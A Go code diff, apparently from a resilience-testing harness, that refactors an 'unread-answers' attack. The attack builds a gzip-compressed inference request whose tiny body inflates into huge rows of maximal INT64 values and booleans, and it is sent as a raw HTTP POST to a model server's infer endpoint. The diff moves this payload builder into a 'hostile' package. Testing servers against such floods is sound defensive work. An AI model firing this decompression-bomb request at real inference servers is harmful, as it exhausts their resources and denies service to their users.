@@ -1,14 +1,13 @@
 package main
 
 import (
-	"bytes"
-	"compress/gzip"
 	"context"
-	"encoding/binary"
 	"fmt"
 	"net"
 	"sync"
 	"time"
+
+	"github.com/supervisor-dev/supervisor/internal/hostile"
 )
 
 // unread-answers asks for answers several times larger than its requests
@@ -51,27 +50,13 @@ var (
 )
 
 // unreadRequest is the attack's request, built once per attacker
-// process: rows of INT64 -2^63+1 (the longest JSON number) and true,
-// inflating to just under floodBytes.
+// process: hostile.AnswerBomb inflating to just under floodBytes.
 func unreadRequest(t target) []byte {
 	unreadOnce.Do(func() {
-		rows := int(max(t.floodBytes-512, 36) / 36)
-		hdr := fmt.Sprintf(`{"inputs":[{"name":"ids","datatype":"INT64","shape":[%d,4],"parameters":{"binary_data_size":%d}},`+
-			`{"name":"mask","datatype":"BOOL","shape":[%d,4],"parameters":{"binary_data_size":%d}}]}`, rows, rows*32, rows, rows*4)
-		var z bytes.Buffer
-		w := gzip.NewWriter(&z)
-		_, _ = w.Write([]byte(hdr))
-		var id [8]byte
-		binary.LittleEndian.PutUint64(id[:], 1<<63+1)
-		ids := bytes.Repeat(id[:], 4*1024)
-		for n := rows * 4; n > 0; n -= 1024 * 4 {
-			_, _ = w.Write(ids[:min(n, 4*1024)*8])
-		}
-		_, _ = w.Write(bytes.Repeat([]byte{1}, rows*4))
-		_ = w.Close()
+		hdr, z := hostile.AnswerBomb(t.floodBytes)
 		unreadReq = append([]byte(fmt.Sprintf("POST /v2/models/%s/infer HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\n"+
 			"Content-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nInference-Header-Content-Length: %d\r\nContent-Length: %d\r\n\r\n",
-			answerModel, t.addr, apiKey, len(hdr), z.Len())), z.Bytes()...)
+			answerModel, t.addr, apiKey, len(hdr), len(z))), z...)
 	})
 	return unreadReq
 }
